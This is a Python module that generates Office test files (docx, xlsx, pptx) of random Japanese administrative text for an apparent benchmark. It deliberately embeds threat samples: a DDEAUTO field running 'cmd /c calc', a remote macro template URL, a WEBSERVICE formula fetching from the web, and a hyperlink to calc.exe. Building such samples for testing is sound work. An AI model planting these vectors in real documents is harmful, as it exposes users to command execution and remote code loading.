"""Word, Excel and PowerPoint files for the benchmark: the plainest package that each program opens, and a few threats.

Nothing here measures, and nothing reads a file.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping, Sequence
from random import Random
from xml.sax.saxutils import escape

_WORDS = (  # noqa: SIM905 -- fifty words are read more easily than fifty quotation marks
    "住民票 申請 窓口 令和八年度 予算 事業計画 災害 避難所 保育園 道路工事 見積書 契約 条例 議会 委員会 国民健康保険 介護 "
    "予防接種 水道 料金 納付 通知 調査票 回答 期限 担当 課長 係 市民 講座 募集 図書館 開館 時間 変更 お知らせ ご確認 "
    "お願いいたします について に関する の件 および または を実施 しました 髙橋 渡邊 ①号 ２階 第３回"
).split()
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument."
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/"


def sentence(random: Random) -> str:
    return "".join(random.choices(_WORDS, k=random.randint(4, 14))) + f"{random.randint(1, 99_999)}円。"


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _package(parts: dict[str, tuple[str, str | bytes]], links: Mapping[str, Sequence[tuple[str, str]]]) -> bytes:
    """`parts`: name to (content type, content); `links`: source to (relationship type, target), ids rId1, rId2, ..."""
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    rows = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, (kind, _) in parts.items())
    types = f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="{rels}"/>{rows}</Types>'
    members = {"[Content_Types].xml": types.encode()}
    for source, targets in links.items():
        table = "".join(
            f'<Relationship Id="rId{number}" Type="{_RELATION}/{kind}" Target="{target}"'
            + (' TargetMode="External"/>' if ":" in target else "/>")
            for number, (kind, target) in enumerate(targets, 1)
        )
        folder, slash, name = source.rpartition("/")
        path = f"{folder}{slash}_rels/{name}.rels"
        members[path] = f'<Relationships xmlns="{_PACKAGE}/relationships">{table}</Relationships>'.encode()
    for name, (_, content) in parts.items():
        members[name] = content.encode() if isinstance(content, str) else content
    return zipped(members)


def docx(random: Random, paragraphs: int, *photos: bytes) -> bytes:
    """Runs with properties, as Word writes them; a DDE field and a remote template."""
    word = OFFICE + "wordprocessingml."
    names = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{_RELATION}"'
    look = '<w:rPr><w:rFonts w:hint="eastAsia"/><w:sz w:val="21"/></w:rPr>'
    body = "".join(
        f'<w:p><w:pPr><w:jc w:val="both"/></w:pPr><w:r>{look}<w:t>{sentence(random)}</w:t></w:r></w:p>'
        for _ in range(paragraphs)
    )
    dde = '<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    shown = "".join(f"<w:p><w:r><w:drawing>{_inline(number)}</w:drawing></w:r></w:p>" for number in range(2, len(photos) + 2))
    document = f"<w:document {names}><w:body>{body}{dde}{shown}<w:sectPr/></w:body></w:document>"
    parts: dict[str, tuple[str, str | bytes]] = {
        "word/document.xml": (word + "document.main+xml", document),
        "word/settings.xml": (word + "settings+xml", f'<w:settings {names}><w:zoom w:percent="100"/></w:settings>'),
    }
    parts |= {f"word/media/image{number}.jpg": ("image/jpeg", photo) for number, photo in enumerate(photos)}
    links = {
        "": [("officeDocument", "word/document.xml")],
        "word/document.xml": [("settings", "settings.xml"), *(("image", f"media/image{n}.jpg") for n in range(len(photos)))],
        "word/settings.xml": [("attachedTemplate", "https://example.jp/template.dotm")],
    }
    return _package(parts, links)


def _inline(number: int) -> str:
    blip = f'<p:blipFill><a:blip r:embed="rId{number}"/></p:blipFill>'
    picture = f'<p:pic xmlns:p="{_DRAWING}picture">{blip}</p:pic>'
    graphic = (
        f'<a:graphic xmlns:a="{_DRAWING}main"><a:graphicData uri="{_DRAWING}picture">{picture}</a:graphicData></a:graphic>'
    )
    return f'<i:inline xmlns:i="{_DRAWING}wordprocessingDrawing"><i:extent cx="9525" cy="9525"/>{graphic}</i:inline>'


def xlsx(random: Random, rows: int) -> bytes:
    """Numbers, shared strings and sums in 20 columns; one formula that fetches from the web."""
    sheet = OFFICE + "spreadsheetml."
    names = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_RELATION}"'
    strings = [sentence(random) for _ in range(max(1, rows // 2))]
    lines = ['<row r="1"><c r="A1"><f>WEBSERVICE(&quot;https://example.jp/&quot;)</f><v>1</v></c></row>']
    for row in range(2, rows + 2):
        cells = [f'<c r="A{row}" t="s"><v>{random.randrange(len(strings))}</v></c>']
        cells += [f'<c r="{chr(65 + column)}{row}"><v>{random.randint(0, 9_999_999)}</v></c>' for column in range(1, 19)]
        lines.append(f'<row r="{row}">{"".join(cells)}<c r="T{row}"><f>SUM(B{row}:S{row})</f><v>0</v></c></row>')
    table = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
    book = f'<workbook {names}><sheets><sheet name="調査票" sheetId="1" r:id="rId1"/></sheets></workbook>'
    parts: dict[str, tuple[str, str | bytes]] = {
        "xl/workbook.xml": (sheet + "sheet.main+xml", book),
        "xl/worksheets/sheet1.xml": (
            sheet + "worksheet+xml",
            f"<worksheet {names}><sheetData>{''.join(lines)}</sheetData></worksheet>",
        ),
        "xl/sharedStrings.xml": (sheet + "sharedStrings+xml", f"<sst {names}>{table}</sst>"),
    }
    links = {
        "": [("officeDocument", "xl/workbook.xml")],
        "xl/workbook.xml": [("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")],
    }
    return _package(parts, links)


def pptx(random: Random, slides: int, photos: Sequence[bytes]) -> bytes:
    """Slides with a few lines each, a photo on the first ones; a link to a program on the first."""
    kind = OFFICE + "presentationml."
    names = (
        f'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="{_RELATION}" xmlns:a="{_DRAWING}main"'
    )
    ids = "".join(f'<p:sldId id="{256 + n}" r:id="rId{n + 1}"/>' for n in range(slides))
    show = f'<p:presentation {names}><p:sldIdLst>{ids}</p:sldIdLst><p:notesSz cx="1" cy="1"/></p:presentation>'
    parts: dict[str, tuple[str, str | bytes]] = {"ppt/presentation.xml": (kind + "presentation.main+xml", show)}
    links: dict[str, Sequence[tuple[str, str]]] = {
        "": [("officeDocument", "ppt/presentation.xml")],
        "ppt/presentation.xml": [("slide", f"slides/slide{n}.xml") for n in range(slides)],
    }
    for n in range(slides):
        own = [("image", f"../media/image{n}.jpg")] if n < len(photos) else []
        own += [("hyperlink", "file:///c:/windows/system32/calc.exe")] if n == 0 else []
        parts[f"ppt/slides/slide{n}.xml"] = (kind + "slide+xml", _slide(random, names, has_photo=n < len(photos)))
        links[f"ppt/slides/slide{n}.xml"] = own
    parts |= {f"ppt/media/image{n}.jpg": ("image/jpeg", photo) for n, photo in enumerate(photos)}
    return _package(parts, links)


def _slide(random: Random, names: str, *, has_photo: bool) -> str:
    lines = "".join(f'<a:p><a:r><a:rPr lang="ja-JP"/><a:t>{sentence(random)}</a:t></a:r></a:p>' for _ in range(8))
    group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    shape = '<p:nvSpPr><p:cNvPr id="2" name="題"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
    picture = '<p:nvPicPr><p:cNvPr id="3" name="写真"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
    picture = f'<p:pic>{picture}<p:blipFill><a:blip r:embed="rId1"/></p:blipFill><p:spPr/></p:pic>' if has_photo else ""
    tree = f"{group}<p:sp>{shape}<p:txBody><a:bodyPr/>{lines}</p:txBody></p:sp>{picture}"
    return f"<p:sld {names}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sld>"
